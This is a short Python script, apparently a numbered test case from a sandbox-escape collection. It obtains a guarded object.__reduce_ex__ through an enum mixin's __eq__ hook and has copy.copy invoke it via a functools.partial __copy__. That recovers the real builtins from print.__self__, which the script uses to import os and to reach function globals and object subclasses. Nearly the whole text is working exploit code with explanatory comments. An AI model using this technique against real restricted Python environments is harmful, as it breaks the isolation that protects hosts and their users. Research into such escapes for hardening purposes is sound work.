# technique: caller_may_reduce trusts copy.copy's frame for whatever it calls: a user class's __copy__ is a functools.partial of object.__reduce_ex__ (captured as in case 382) bound to a stdlib partial; copy.copy calls copier(x) directly (no _reconstruct, no state check), so the C partial runs the guarded reduce from copy.copy's own frame (x supplies the protocol via __index__) and copy.copy returns the real __dict__ holding print.__self__ (real builtins)
# expect: any
import enum, functools, copy, json
got = []
class Spy:                                  # case 382's capture of object.__reduce_ex__ (the guarded one)
    def __eq__(self, other):
        got.append(other)
        return False
    __hash__ = object.__hash__
Mixin = type("Mixin", (), {"__reduce_ex__": Spy()})
class E(Mixin, enum.Enum):
    A = 1
red = got[0]
p = functools.partialmethod(staticmethod(print)).__get__(None, object)   # partial whose __dict__ holds print.__self__
try:
    red(p, 2)
except Exception as e:
    print("direct:", type(e).__name__, e)
class T:
    __copy__ = functools.partial(red, p)    # copy.copy: copier = getattr(cls, "__copy__"); return copier(x)
    def __index__(self):                    # x becomes the protocol argument
        return 2
rv = copy.copy(T())                         # red(p, T()) called by C partial from copy.copy's own frame
bi = rv[2][3]["__self__"]
print(type(bi), bi)
g = bi.getattr(json.dumps, "__globals__")
os_mod = bi.getattr(bi, "__import__")("os")
print(os_mod, os_mod.getpid(), sorted(g)[:3], bi.getattr(object, "__subclasses__")()[:2])
